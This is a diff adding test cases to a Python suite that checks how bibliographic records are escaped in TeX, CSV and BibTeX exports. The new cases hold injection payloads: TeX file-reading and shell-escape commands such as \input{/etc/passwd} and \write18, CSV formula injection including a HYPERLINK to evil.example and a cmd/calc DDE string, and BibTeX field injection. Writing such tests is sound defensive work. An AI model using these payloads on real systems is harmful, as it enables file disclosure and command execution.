@@ -289,6 +289,23 @@ RENDERED: list[Case] = [
         "\\textbf{x} \\def\\x{y} \\catcode`\\@=11",
     ),
     render("tex-commands-title", "tex", title="Case \\input{/etc/passwd} \\def\\x{" + M + "}"),
+    # TeX that a reader's LaTeX would run if the BibTeX exports kept it as math.
+    render("tex-caret-notation", "tex", title=f"Case caret $x^^5cinput{{/tmp/{M}}}$"),
+    render("tex-href-launch", "tex", title=f"Case launch $\\href{{run:{M}.sh}}{{x}}$"),
+    render("tex-csname", "tex", title=f"Case csname $\\csname {M}\\endcsname$"),
+    render("tex-input-math", "tex", title=f"Case input $\\input{{/etc/{M}}}$ $\\\\%{M}$"),
+    render(
+        "tex-undefined-math",
+        "tex",
+        title=f"Case undefined $\\style{{color:red}}{{x}}$ $\\unicode{{x3c}}$ "
+        f"$\\class{{{M}}}{{x}}$",
+        venue=f"Venue $\\immediate\\write18{{{M}}}$ $a~b$ $\\rule{{1em}}{{2em}}$",
+    ),
+    render(
+        "tex-safe-math",
+        "tex",
+        title=r"Case kept $\frac12 \{x\} \left( \mathbb{R}^n \right) \sum\limits_{i=1}^n x'_i$",
+    ),
     # Huge and tiny values, at the limits the model allows.
     render("max-title", "size", title=("Case <max> & \"title\" 'x' " * 20)[:300]),
     render("max-abstract", "size", title="Case max abstract", abstract=(f"<{M}>&" * 1000)[:6000]),
@@ -309,6 +326,16 @@ RENDERED: list[Case] = [
         authors=[f"+cmd {M}", f"-2+3 {M}", f"=1+1 {M}"],
         venue=f"@{M}",
     ),
+    # Where `;` (many locales' separator), tab or `|` splits a cell, a formula can start.
+    render(
+        "csv-formula-separators",
+        "export",
+        title=f"Case csv; =1+1 {M}, -2+3 | @SUM(1) {M}",
+        abstract=f"a;=HYPERLINK(\"https://evil.example/{M}\")\tb\t+cmd|' /C calc'!A0\n"
+        f'-{M}\n"; @{M}',
+        authors=[f"Ann; =1+1 {M}", f"Bob,+{M}"],
+        venue=f"V; -{M}",
+    ),
     render(
         "ris-injection",
         "export",
@@ -321,6 +348,16 @@ RENDERED: list[Case] = [
         title=f"Case bibtex }}, {M} = {{injected",
         abstract=f"}}\n@misc{{{M}, title={{injected}}}}\n\\input{{/etc/passwd}} %comment",
         authors=[f"Smith}}, {M}={{x"],
+    ),
+    # BibTeX counts `\}` as a brace: the old escaping let this title add a `url` field.
+    render("bibtex-field-injection", "export", title=f'x }} , url = "https://evil.example/{M}"'),
+    render(
+        "bibtex-unbalanced-open",
+        "export",
+        title=f"Case unbalanced {{ {M}",
+        authors=[f"{{Open {M}", "Ann and Bob", "A, B, C, D"],
+        venue=f"Journal of {{ {M}",
+        links={"pdf": f"https://example.com/{{{M}}}/^^5cinput|x%7D?a=1&b=%"},
     ),
     render(
         "xml-injection",
